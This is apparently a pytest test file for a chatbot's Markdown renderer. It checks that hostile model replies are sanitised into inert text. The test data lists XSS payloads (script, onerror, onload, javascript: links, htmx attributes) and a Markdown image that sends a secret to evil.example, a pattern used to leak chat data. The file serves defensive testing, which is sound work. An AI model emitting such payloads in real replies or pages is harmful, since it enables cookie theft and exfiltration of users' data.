"""Model text is rendered as Markdown and sanitised: hostile replies come out inert."""

from __future__ import annotations

import pytest

from chatbot.rendering import render_markdown

from helpers import parse

HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '<div hx-get="/x" hx-trigger="load">x</div>',
    '<a data-hx-post="/chat/messages" href="#">x</a>',
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<iframe src=https://evil.example></iframe>",
    '<svg onload="alert(1)"></svg>',
    "<style>body{display:none}</style>",
]


@pytest.mark.parametrize("reply", HOSTILE)
def test_hostile_replies_render_as_inert_text(reply: str) -> None:
    soup = parse(str(render_markdown(reply)))
    assert soup.find(["script", "img", "iframe", "svg", "style", "div"]) is None
    for element in soup.find_all(True):
        for attribute in element.attrs:
            assert not attribute.startswith(("on", "hx-", "data-hx", "style"))
        assert "javascript:" not in str(element.get("href", ""))
    assert "evil.example/?q=secret" not in " ".join(
        str(e.get("src", "")) + str(e.get("href", "")) for e in soup.find_all(True))


def test_markdown_formatting_is_kept() -> None:
    soup = parse(str(render_markdown("**Bold** and `code`\n\n- one\n- two")))
    assert soup.select_one("strong").text == "Bold"
    assert soup.select_one("code").text == "code"
    assert [li.text for li in soup.select("ul li")] == ["one", "two"]


def test_links_are_safe_and_open_elsewhere() -> None:
    link = parse(str(render_markdown("[site](https://ada.dev)"))).select_one("a")
    assert link["href"] == "https://ada.dev"
    assert set(link["rel"]) == {"nofollow", "noopener", "noreferrer"}


def test_images_become_their_alt_text() -> None:
    assert "[image: diagram]" in str(render_markdown("![diagram](https://ada.dev/d.png)"))
